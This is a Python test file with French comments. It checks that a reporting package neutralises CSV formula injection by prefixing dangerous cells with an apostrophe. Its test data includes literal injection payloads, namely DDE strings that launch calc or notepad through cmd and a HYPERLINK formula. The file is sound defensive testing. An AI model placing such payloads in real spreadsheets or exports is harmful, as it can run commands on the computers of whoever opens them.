"""Injection de formules CSV (issue 16, point 4) : toute cellule texte d'un CSV écrit ou joint
qui commence par ``=``, ``+``, ``-``, ``@``, une tabulation ou un retour chariot est préfixée
d'une apostrophe (règle OWASP) ; les nombres écrits restent tels quels."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pandas as pd
import pikepdf
import pytest

import analyse
from analyse import config
from analyse.formatage import ecrire_csv, neutraliser_formule, neutraliser_formules
from analyse.rapports import graphiques, palmares as rapport_palmares, rendu
from analyse.statistiques import edition, palmares
from test_fiche import ANNEE, donnees_demo

# Noms de structures relevés dans l'issue, plus des voisins (tabulation, retour chariot, DDE).
NOMS_PIEGES = [
    '=HYPERLINK("http://exemple.invalid/?v="&A1;"Cliquer")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!'A1'",
    "-2+3+cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\r=1+1",
    "-cmd",
    "+33 6 12 34 56 78",
]
NOMBRES = ["-3,3", "+7,6", "-2", "1 234,5", "-1\u202f234,5", "-12,5\u00a0%", "+0,4", "-3.25", "68,5"]
TEXTES_SURS = ["Mairie de Brest", "[66,1 ; 70,3]", "–", "1er ex aequo", "Rang : intervalle à 95 %"]


@pytest.mark.parametrize("valeur", NOMS_PIEGES)
def test_formule_neutralisee(valeur):
    assert neutraliser_formule(valeur) == "'" + valeur


@pytest.mark.parametrize("valeur", NOMBRES + TEXTES_SURS)
def test_nombres_et_textes_surs_inchanges(valeur):
    assert neutraliser_formule(valeur) == valeur
    assert _est_nombre(valeur) == (valeur in NOMBRES)


def test_valeurs_non_textuelles_inchangees():
    assert [neutraliser_formule(v) for v in (-2, -3.3, None, True)] == [-2, -3.3, None, True]


def _cellules(contenu: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(contenu.decode("utf-8-sig")), delimiter=";"))


def _est_nombre(cellule: str) -> bool:
    """Oracle indépendant du motif du paquet : Python sait-il lire ce nombre français ?"""
    propre = "".join(cellule.split()).replace("\u202f", "").rstrip("%").replace(",", ".")
    try:
        float(propre)
    except ValueError:
        return False
    return True


def _sans_formule(lignes: list[list[str]]) -> None:
    for ligne in lignes:
        for cellule in ligne:
            assert not cellule.startswith(("=", "+", "-", "@", "\t", "\r")) or _est_nombre(cellule), repr(cellule)


def _tableau_piege() -> pd.DataFrame:
    n = len(NOMS_PIEGES)
    return pd.DataFrame({"Structure": NOMS_PIEGES, "Écart": [-2.5] * n, "Texte": ["-3,3"] * n, "=titre": ["x"] * n})


def test_ecrire_csv(tmp_path):
    lignes = _cellules(ecrire_csv(_tableau_piege(), tmp_path, "essai").read_bytes())
    assert lignes[0] == ["Structure", "Écart", "Texte", "'=titre"]
    assert [l[0] for l in lignes[1:]] == ["'" + n for n in NOMS_PIEGES]
    assert {l[1] for l in lignes[1:]} == {"-2,5000"} and {l[2] for l in lignes[1:]} == {"-3,3"}
    _sans_formule(lignes)


def test_donnees_des_graphiques():
    lignes = _cellules(graphiques.csv_donnees(_tableau_piege()))
    assert [l[0] for l in lignes[1:]] == ["'" + n for n in NOMS_PIEGES]
    _sans_formule(lignes)


def test_csv_des_tableaux_du_document():
    corps = "".join(f"<tr><td>{n}</td><td>-3,3</td></tr>" for n in ["=1+1", "@SUM(A1)", "Brest"])
    (piece,) = rendu.tableaux_du_document(f"<table><caption>Palmarès</caption>{corps}</table>")
    assert _cellules(piece.contenu) == [["'=1+1", "-3,3"], ["'@SUM(A1)", "-3,3"], ["Brest", "-3,3"]]


def test_neutraliser_formules_ne_modifie_pas_l_original():
    df = _tableau_piege()
    neutraliser_formules(df)
    assert df["Structure"].tolist() == NOMS_PIEGES


def test_palmares_joint_au_pdf_national_sans_formule(tmp_path_factory):
    """Bout en bout : noms piégés → palmarès → document → PDF → pièce jointe CSV relue avec pikepdf."""
    donnees = donnees_demo(tmp_path_factory)
    tables = edition.charger_edition(ANNEE, donnees)
    participants = tables["participants"].copy()
    participants["nom"] = [NOMS_PIEGES[i % len(NOMS_PIEGES)] + f" {i}" for i in range(len(participants))]
    tables["participants"] = participants
    resultat = palmares.calculer_palmares(tables, config.Parametres(n_bootstrap=50))
    assert not resultat["laureats"].empty
    bloc = str(rapport_palmares.bloc_palmares(resultat, "Source : essai"))
    chemin = rendu.fragment_vers_pdf(bloc, tmp_path_factory.mktemp("palmares") / "national.pdf", "Palmarès")
    with pikepdf.open(chemin) as pdf:
        jointes = {nom: f.get_file().read_bytes() for nom, f in pdf.attachments.items()}
    assert jointes
    noms_lus = set()
    for contenu in jointes.values():
        lignes = _cellules(contenu)
        _sans_formule(lignes)
        noms_lus |= {c for l in lignes for c in l if c.startswith("'")}
    # les cellules d'un tableau sont écrites telles qu'affichées (blancs réduits à une espace)
    assert noms_lus == {"'" + " ".join(n.split()) for n in resultat["laureats"]["nom"]}


# --------------------------------------------------------------------------- inventaire des écrivains

# Chaque écriture de CSV du paquet, par (module, fonction englobante). Les rapports passent tous
# par les trois fonctions neutralisantes ; la démo écrit des fichiers BRUTS (entrées simulées
# d'une source, relues par ``preparer``) : les neutraliser fausserait les données d'essai.
ECRIVAINS_NEUTRALISES = {
    ("formatage.py", "ecrire_csv"),
    ("rapports/graphiques.py", "csv_donnees"),
    ("rapports/rendu.py", "csv_francais"),
}
ECRIVAINS_DE_DONNEES_BRUTES = {("demo/ecoute.py", "_ecrire"), ("demo/editions.py", "_ecrire_csv")}


def _ecrivains_csv() -> set[tuple[str, str]]:
    racine = Path(analyse.__file__).parent
    trouves = set()
    for fichier in sorted(racine.rglob("*.py")):
        arbre = ast.parse(fichier.read_text(encoding="utf-8"))
        for fonction in (n for n in ast.walk(arbre) if isinstance(n, (ast.FunctionDef, ast.AsyncFunctionDef))):
            for appel in (n for n in ast.walk(fonction) if isinstance(n, ast.Call)):
                nom = getattr(appel.func, "attr", getattr(appel.func, "id", ""))
                if nom in ("to_csv", "writer", "DictWriter", "writerow", "writerows"):
                    trouves.add((fichier.relative_to(racine).as_posix(), fonction.name))
    return trouves


def test_toutes_les_ecritures_de_csv_sont_inventoriees():
    assert _ecrivains_csv() == ECRIVAINS_NEUTRALISES | ECRIVAINS_DE_DONNEES_BRUTES
